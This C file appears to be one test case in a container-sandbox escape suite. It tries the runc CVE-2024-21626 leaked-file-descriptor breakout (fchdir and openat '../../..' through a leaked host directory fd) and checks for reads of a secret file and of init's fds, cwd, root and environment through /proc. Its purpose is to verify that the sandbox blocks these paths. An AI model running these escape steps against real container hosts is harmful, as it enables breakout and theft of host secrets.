/* ESC-05 leaked-fd-cwd: a host directory fd leaked into the container
 * (runc CVE-2024-21626): fchdir to it, or openat(fd, "../../..") out of
 * the new root.  The harness leaks three fds into stockade without
 * CLOEXEC (an O_PATH fd of the host's /, the secret file, a socket
 * connected to a host listener); the program must have 0, 1 and 2 only,
 * a cwd inside its root, and no way through /proc to init's fds, cwd,
 * root or environment (init is not dumpable). */
#include "attack.h"

#include <fcntl.h>
#include <sys/stat.h>

int main(void)
{
	char name[64], path[4200], target[4096];
	const char *secret = canary("SECRET");
	/* step 1: every fd above 2 */
	int found = 0;
	for (int fd = 3; fd < 4096; fd++) {
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		found++;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		ssize_t n = readlink(path, target, sizeof(target) - 1);
		note("fd %d is open: %s", fd,
		     n >= 0 ? (target[n] = 0, target) : "?");
		snprintf(name, sizeof(name), "payoff-leaked-fd%d", fd);
		report(name, 0, 0);
		/* step 2: out of the root through a directory fd */
		struct stat st;
		if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
			snprintf(name, sizeof(name), "payoff-fchdir-fd%d", fd);
			TRY(name, fchdir(fd));
			snprintf(path, sizeof(path), "../../../../../../..%s",
				 secret);
			snprintf(name, sizeof(name),
				 "payoff-openat-fd%d-secret", fd);
			long s = TRY(name, openat(fd, path, O_RDONLY));
			if (s >= 0) {
				n = read((int)s, target, sizeof(target) - 1);
				escaped("read the secret through fd %d: %.*s",
					fd, (int)(n > 0 ? n : 0), target);
			}
		}
	}
	if (!found) /* every fd above 2 gave EBADF */
		report("fds-above-2", -1, EBADF);
	/* step 3: the magic links of /proc/self/fd as directories */
	long r = -1;
	int e = ENOENT;
	for (int fd = 3; fd <= 64 && r < 0; fd++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		errno = 0;
		r = chdir(path);
		e = errno;
	}
	report("chdir-proc-self-fd-3-64", r, e);
	/* step 4: the cwd is a path inside the root */
	if (!getcwd(target, sizeof(target)))
		escaped("getcwd failed: %s", strerrorname_np(errno));
	else if (target[0] != '/')
		escaped("the cwd is outside the root: %s", target);
	else
		note("cwd %s", target);
	/* the secret by its path, and init's descriptors, cwd, root and
	 * environment (stockade's, with C-ENV) */
	TRY("payoff-open-secret", open(secret, O_RDONLY));
	TRY("list-init-fds", open("/proc/1/fd", O_RDONLY | O_DIRECTORY));
	for (int fd = 0; fd < 8; fd++) {
		snprintf(path, sizeof(path), "/proc/1/fd/%d", fd);
		snprintf(name, sizeof(name), "payoff-open-init-fd%d", fd);
		TRY(name, open(path, O_RDONLY));
	}
	TRY("payoff-chdir-init-cwd", chdir("/proc/1/cwd"));
	snprintf(path, sizeof(path), "/proc/1/root%s", secret);
	TRY("payoff-open-secret-via-init-root", open(path, O_RDONLY));
	TRY("payoff-open-init-environ", open("/proc/1/environ", O_RDONLY));
	if (getenv("SBX_SECRET"))
		escaped("stockade's environment reached the program "
			"(SBX_SECRET)");
	done();
	return 0;
}
